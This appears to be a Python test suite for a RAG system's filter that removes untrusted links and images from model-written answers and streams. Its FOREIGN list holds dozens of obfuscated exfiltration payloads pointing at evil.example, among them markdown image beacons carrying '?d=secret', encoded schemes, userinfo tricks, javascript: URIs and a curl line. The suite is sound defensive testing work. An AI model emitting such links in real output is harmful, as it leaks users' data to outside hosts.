"""Addresses in what a model wrote: no piece of a stream, and no answer, leads to a host that no source vouches for."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragd.security.links import IMAGE, KnownAddresses, LinkFilter, filter_links, host_of, place_removed

OWN = "docs.own.example"
KNOWN = KnownAddresses([OWN], ["See https://ok.example/a?b=1 for more."])
FOREIGN = (
    "See [x](https://evil.example/?d=secret).", "![p](https://evil.example/p.png?d=1)", "<https://evil.example/a>",
    "[x](<https://evil.example/a b>)", "[x]( https://evil.example )", "[x](&#104;ttps://evil.example/)",
    "[x](https\\://evil.example/)", "[x](//evil.example/a)", "[x](/\\evil.example/a)", "[x](\\\\\\\\evil.example)",
    "[r]\n\n[r]: https://evil.example/q", "[r]\n\n[r]: <https://evil.example/q>", "[x](<ht\ttps:evil.example>)",
    "[x](https:evil.example)", "[x](https:/evil.example)", f"[x](https://{OWN}@evil.example/)",
    f"[x](https://evil.example\\@{OWN}/)", f"[x](https://{OWN}'.evil.example/)", f'[x](https://{OWN}".evil.example/)',
    f"[x](https://{OWN}.evil.example/)", "[x](javascript:alert(1))", "[x](data:text/html,hi)", "[x](DATA:text/html,hi)",
    "www.evil.example/?q=1", "http://[::1]/x", '<img src="https://evil.example/p">', "<img src=//evil.example/p>",
    "[这里](https://evil.example/数据)，你好", "`curl https://evil.example/x`", f"[x](https://{OWN}:81/a)",
    "[![a](https://evil.example/i.png)](https://evil.example)", "[x](&sol;&sol;evil.example)", "[x](\n//evil.example)",
    "[x](< //evil.example >)", "[x](<\\/\\/evil.example>)", "[r]: //evil.example\n\n[r]", "[r]:\n//evil.example\n\n[r]",
    "[x](ht&Tab;tps://evil.example)", "[x](https&colon;//evil.example)", "![x](http&#58;&#47;&#47;evil.example)",
    "![ok](https://ok.example/a?b=1)", "[x](https://ok.example/a?b=1&d=secret)", "[x](mailto:evil@evil.example?body=x)",
    "[x](ftp://evil.example/)", "[a](https://docs.own.example/a)[b](https://evil.example/b)", "[x](HTTPS://EVIL.example)",
    "[x](https://ok.example/a?b=1'.evil.example)", "https://évil.example/?d=1", "[x](https://" + "a" * 3000 + ")",
)  # fmt: skip
KEPT = (
    f"![p](https://{OWN}/p.png) and [m](https://{OWN}/x?y=1) and https://{OWN}/y.",
    "[ok](https://ok.example/a?b=1), https://ok.example/a?b=1.",
    "std::vector, C:\\temp\\x, a/b, and/or, ratio 3:2, `d: x`, [1][2], // a comment, file.txt, http: and https:",
    "[relative](guide.md) and [part](#top), see (https://ok.example/a?b=1).",
)
MARKDOWN = MarkdownIt("commonmark")


def addresses(text: str) -> list[str]:
    """What a browser would follow or load of a text, rendered with images."""
    found = []
    waiting = list(MARKDOWN.parse(text))
    while waiting:
        token = waiting.pop()
        waiting += token.children or []
        found += [str(value) for name, value in token.attrs.items() if name in ("href", "src")]
    return found


def leads_away(address: str) -> bool:
    known = (OWN, "ok.example")
    is_absolute = "//" in address.replace("\\", "/")[:10] or ":" in address.split("/")[0]
    return is_absolute and urlsplit(address.replace("\\", "/")).netloc not in known


@pytest.mark.parametrize("text", FOREIGN, ids=ascii)
def test_a_foreign_address_leaves_no_answer(text: str) -> None:
    shown, removed = filter_links(text, KNOWN)
    assert [address for address in addresses(shown) if leads_away(address)] == []
    assert "evil.example/" not in shown and "secret" not in shown
    assert all(shown[item.start : item.end].startswith("(link removed") for item in place_removed(shown, removed))


@pytest.mark.parametrize("text", KEPT, ids=ascii)
def test_what_a_source_vouches_for_stays(text: str) -> None:
    assert filter_links(text, KNOWN) == (text, [])


def test_images_and_links_are_told_apart() -> None:
    _, removed = filter_links("![a long label](https://evil.example/i) [b](https://evil.example/)", KNOWN)
    assert [item.rule for item in removed] == [IMAGE, "foreign_link"]


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://A.example:443/x", "a.example"), ("http://a.example:8080", "a.example:8080"), ("www.a.example/x", "www.a.example"),
        ("https://a.example./x", "a.example"), ("https:a.example", "a.example"), ("https://u@a.example/", None),
        ("https://a.example\\@b.example/", "a.example"), ("https://[bad/", None), ("https://a.example:99999999/", None), ("https://", None),
    ],
)  # fmt: skip
def test_a_host_is_read_as_a_browser_does(address: str, host: str | None) -> None:
    assert host_of(address) == host


PIECES = st.sampled_from(
    [*"[]()!<>:/\\&;#. \n", "https", "://", "evil.example", OWN, "](", "]: ", "&#104;", "ttp", "//", "x", "数"]
)


@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(1, 6), max_size=60))
def test_a_stream_gives_what_the_whole_gives_and_no_foreign_link(text: str, sizes: list[int]) -> None:
    links, given_out, position = LinkFilter(KNOWN), "", 0
    for size in [*sizes, len(text)]:
        given_out += links.feed(text[position : position + size])
        position += size
    given_out += links.finish()
    whole, removed = filter_links(text, KNOWN)
    assert (given_out, links.removed) == (whole, removed)
    assert [address for address in addresses(whole) if "evil" in address and leads_away(address)] == []


@given(st.sampled_from(FOREIGN), st.integers(1, 12))
def test_no_prefix_of_a_stream_holds_a_foreign_link(text: str, size: int) -> None:
    links, given_out = LinkFilter(KNOWN), ""
    for start in range(0, len(text), size):
        given_out += links.feed(text[start : start + size])
        assert [address for address in addresses(given_out) if leads_away(address)] == []
